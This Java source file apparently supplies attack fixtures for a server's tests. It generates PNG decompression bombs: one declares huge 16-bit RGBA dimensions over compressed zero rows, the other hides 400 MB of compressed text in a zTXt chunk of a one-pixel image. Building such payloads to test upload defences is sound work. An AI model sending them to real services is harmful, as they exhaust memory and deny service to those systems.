package app.geminal.server.attack;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/** Small files that unpack to something huge. */
final class Bombs {
  private static final byte[] SIGNATURE = {(byte) 137, 80, 78, 71, 13, 10, 26, 10};
  private static final int TEXT_BYTES = 400_000_000;

  private Bombs() {}

  /** A grey picture of 16 bits a channel with transparency: eight bytes a pixel. */
  static byte[] deepPng(int width, int height) throws IOException {
    ByteArrayOutputStream rows = new ByteArrayOutputStream();
    try (var packed = new DeflaterOutputStream(rows, new Deflater(Deflater.BEST_SPEED))) {
      byte[] row = new byte[1 + 8 * width];
      // Past the limit no one unpacks it; a few rows are enough.
      for (int y = 0; y < Math.min(height, 10_000); y++) {
        packed.write(row);
      }
    }
    return png(width, height, 16, 6, new byte[0], rows.toByteArray());
  }

  /** One pixel, and a compressed text of 400 MB. */
  static byte[] wordyPng() throws IOException {
    ByteArrayOutputStream text = new ByteArrayOutputStream();
    text.write("Comment\0\0".getBytes(StandardCharsets.ISO_8859_1));
    try (var packed = new DeflaterOutputStream(text, new Deflater(Deflater.BEST_SPEED))) {
      byte[] blank = new byte[1_000_000];
      for (int i = 0; i < TEXT_BYTES / blank.length; i++) {
        packed.write(blank);
      }
    }
    ByteArrayOutputStream pixel = new ByteArrayOutputStream();
    try (var packed = new DeflaterOutputStream(pixel)) {
      packed.write(new byte[4]);
    }
    return png(1, 1, 8, 2, text.toByteArray(), pixel.toByteArray());
  }

  private static byte[] png(
      int width, int height, int depth, int colour, byte[] text, byte[] pixels) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    DataOutputStream out = new DataOutputStream(bytes);
    out.write(SIGNATURE);
    ByteArrayOutputStream header = new ByteArrayOutputStream();
    DataOutputStream head = new DataOutputStream(header);
    head.writeInt(width);
    head.writeInt(height);
    head.write(new byte[] {(byte) depth, (byte) colour, 0, 0, 0});
    chunk(out, "IHDR", header.toByteArray());
    if (text.length > 0) {
      chunk(out, "zTXt", text);
    }
    chunk(out, "IDAT", pixels);
    chunk(out, "IEND", new byte[0]);
    return bytes.toByteArray();
  }

  private static void chunk(DataOutputStream out, String type, byte[] data) throws IOException {
    byte[] name = type.getBytes(StandardCharsets.US_ASCII);
    CRC32 crc = new CRC32();
    crc.update(name);
    crc.update(data);
    out.writeInt(data.length);
    out.write(name);
    out.write(data);
    out.writeInt((int) crc.getValue());
  }
}
